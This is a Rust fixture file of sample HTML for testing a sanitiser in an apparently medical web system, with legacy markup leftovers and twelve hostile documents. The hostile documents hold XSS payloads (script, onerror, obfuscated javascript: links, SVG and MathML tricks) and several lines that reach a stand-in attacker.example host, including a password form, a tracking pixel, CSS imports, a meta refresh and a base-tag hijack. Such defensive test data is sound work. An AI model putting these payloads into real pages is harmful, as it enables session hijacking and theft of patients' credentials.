//! HTML that must not run in a patient's browser: leftovers of old programs, and some attacks. The tests of the sanitiser have the long
//! list of attacks; these exist so that some pass through the whole system.

/// Leftovers of an older program at the end of a document.
pub fn leftover(number: u64) -> &'static str {
    match number % 4 {
        0 => r#"<img src="file:///C:/SamsonVista/images/stamp.png" alt="печать">"#,
        1 => r#"<p style="position:fixed;top:0" class="MsoNormal"><o:p>&nbsp;</o:p></p>"#,
        2 => {
            r#"<meta http-equiv="Content-Type" content="text/html; charset=utf-8"><link rel="stylesheet" href="file:///C:/SamsonVista/print.css">"#
        }
        _ => r#"<img src="\\fileserver\photo\doctor.bmp"><script>window.print()</script>"#,
    }
}

/// Options of a question with the special characters of real directories: apostrophes, a comma, quotation marks, a stray backslash.
pub const OPTIONS: [&str; 3] = ["боль по д'Арсонвалю", r#"O'Brien, тип "B""#, r"путь\склад"];

/// Hostile documents: name and body. Each contains a text that must stay readable.
pub const DOCUMENTS: [(&str, &str); 12] = [
    ("Сценарий", "<p>Текст остаётся.</p><script>document.title='attacked'</script>"),
    ("Событие картинки", r#"<p>Текст остаётся.</p><img src="x" onerror="document.title='attacked'">"#),
    (
        "Ссылка со сценарием",
        r#"<p>Текст остаётся.</p><a href="java&#x09;script:document.title='attacked'">ссылка</a>"#,
    ),
    (
        "Форма",
        r#"<p>Текст остаётся.</p><form action="https://attacker.example/"><input name="password"><button>Войти</button></form>"#,
    ),
    (
        "Рамка",
        r#"<p>Текст остаётся.</p><iframe srcdoc="<script>parent.document.title='attacked'</script>"></iframe>"#,
    ),
    ("Картинка извне", r#"<p>Текст остаётся.</p><img src="https://attacker.example/pixel.gif">"#),
    (
        "Стиль",
        r#"<style>@import 'https://attacker.example/a.css';body{display:none}</style><p style="background:url(https://attacker.example/b)">Текст остаётся.</p>"#,
    ),
    (
        "SVG",
        r#"<p>Текст остаётся.</p><svg><animate onbegin="document.title='attacked'" attributeName="x" dur="1s"/></svg>"#,
    ),
    (
        "MathML",
        r#"<math><mtext><table><mglyph><style><img src=x onerror="document.title='attacked'"></style></mglyph></table></mtext></math><p>Текст остаётся.</p>"#,
    ),
    (
        "Обновление",
        r#"<meta http-equiv="refresh" content="0;url=https://attacker.example/"><p>Текст остаётся.</p>"#,
    ),
    ("Основа", r#"<base href="https://attacker.example/"><p>Текст остаётся.</p><a href="page">ссылка</a>"#),
    ("Незакрытое", "<p>Текст остаётся.</p><b><i><div title='><script>document.title=\"attacked\"</script>"),
];
